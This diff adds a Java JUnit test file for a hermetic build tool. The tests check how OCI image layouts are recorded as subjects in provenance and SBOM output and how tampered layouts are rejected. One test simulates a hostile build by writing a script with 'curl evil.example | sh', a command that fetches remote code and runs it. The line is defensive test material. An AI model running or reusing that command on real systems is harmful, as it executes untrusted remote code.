@@ -1,0 +1,110 @@
+package dev.hermeticbuild.build;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.hermeticbuild.GitFixture;
+import dev.hermeticbuild.InputException;
+import dev.hermeticbuild.artifacts.OutputGlob;
+import dev.hermeticbuild.image.LayoutFixture;
+import dev.hermeticbuild.provenance.ProvenanceJson;
+import dev.hermeticbuild.sandbox.SandboxMode;
+import java.io.ByteArrayOutputStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** A build whose command writes an OCI image layout: the image is its subject by manifest digest, in provenance and SBOM. */
+class ImageOutputBuildTest {
+
+    @TempDir
+    Path repo;
+    @TempDir
+    Path out;
+
+    private BuildResult build() throws Exception {
+        GitFixture.write(repo.resolve("build.sh"), "#!/bin/sh\nset -e\nmkdir -p target\ncp -r layout target/image\necho app > target/app.txt\n");
+        repo.resolve("build.sh").toFile().setExecutable(true);
+        GitFixture.write(repo.resolve(".gitignore"), "target/\n");
+        GitFixture.commitAll(repo, "https://git.example.com/app.git");
+        BuildRequest request = BuildRequest.builder().workspace(repo).outDir(out)
+                .outputs(List.of(new OutputGlob("target/app.txt"), new OutputGlob("target/image")))
+                .command(List.of("./build.sh")).sandbox(SandboxMode.AUTO).tier(Tier.DEV)
+                .builderId("https://ci.example.com/hermetic").timeout(Duration.ofMinutes(5)).build();
+        return HermeticBuild.run(request, new ByteArrayOutputStream(), Map.of());
+    }
+
+    private List<String> subjects(JsonNode statement) {
+        List<String> subjects = new ArrayList<>();
+        statement.path("subject").forEach(s -> subjects.add(s.path("name").asText() + "=" + s.path("digest").path("sha256").asText()));
+        return subjects;
+    }
+
+    @Test
+    void anImageOutputIsItsManifestDigestNotItsFiles() throws Exception {
+        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
+        BuildResult result = build();
+        assertTrue(result.succeeded());
+        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
+        String app = dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/app.txt"));
+        assertEquals(List.of("target/app.txt=" + app, "target/image=" + image.manifests().get(0)), subjects(statement));
+        assertTrue(Files.isRegularFile(out.resolve("target/image/index.json")), "the layout itself is published");
+
+        JsonNode sbom = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.SBOM_FILE).toFile());
+        JsonNode container = null;
+        for (JsonNode c : sbom.path("metadata").path("component").path("components")) {
+            if (c.path("type").asText().equals("container")) {
+                container = c;
+            }
+            assertTrue(!c.path("name").asText().startsWith("target/image/"), "no layout file listed as an output: " + c);
+        }
+        assertTrue(container != null, sbom.toString());
+        assertEquals("target/image", container.path("name").asText());
+        assertEquals(image.manifests().get(0), container.path("hashes").get(0).path("content").asText());
+        assertEquals("sha256:" + image.layer(), container.path("components").get(0).path("name").asText());
+    }
+
+    @Test
+    void aMultiPlatformImageHasTheIndexAndEachPlatformAsSubjects() throws Exception {
+        LayoutFixture.Written image = LayoutFixture.multiPlatform(repo.resolve("layout"));
+        assertTrue(build().succeeded());
+        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
+        List<String> subjects = subjects(statement);
+        assertEquals(List.of("target/image=" + image.index(), "target/image@linux/amd64=" + image.manifests().get(0),
+                "target/image@linux/arm64=" + image.manifests().get(1)), subjects.subList(1, subjects.size()));
+    }
+
+    /** A hostile build hides a file in the layout: the image's digest does not cover it, so it stays a subject of its own. */
+    @Test
+    void aFileInTheLayoutThatNoManifestReachesIsItsOwnSubject() throws Exception {
+        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
+        GitFixture.write(repo.resolve("layout/run.sh"), "#!/bin/sh\ncurl evil.example | sh\n");
+        GitFixture.write(repo.resolve("layout/blobs/sha256/" + "0".repeat(64)), "not reached by any manifest");
+        assertTrue(build().succeeded());
+        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
+        List<String> subjects = subjects(statement);
+        assertTrue(subjects.contains("target/image=" + image.manifests().get(0)), subjects.toString());
+        assertTrue(subjects.contains("target/image/run.sh=" + dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/image/run.sh"))),
+                subjects.toString());
+        assertTrue(subjects.stream().anyMatch(s -> s.startsWith("target/image/blobs/sha256/" + "0".repeat(64) + "=")), subjects.toString());
+        assertTrue(subjects.stream().noneMatch(s -> s.startsWith("target/image/index.json")), subjects.toString());
+    }
+
+    @Test
+    void aLayoutWithATamperedBlobIsRefusedNamingTheBlob() throws Exception {
+        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
+        Path layer = repo.resolve("layout/blobs/sha256/" + image.layer());
+        Files.writeString(layer, Files.readString(layer).replace("hello", "HELLO"));
+        String message = assertThrows(InputException.class, this::build).getMessage();
+        assertTrue(message.contains("target/image") && message.contains("blobs/sha256/" + image.layer())
+                && message.contains("nothing was published"), message);
+        assertTrue(!Files.exists(out.resolve(HermeticBuild.PROVENANCE_FILE)));
+    }
+}
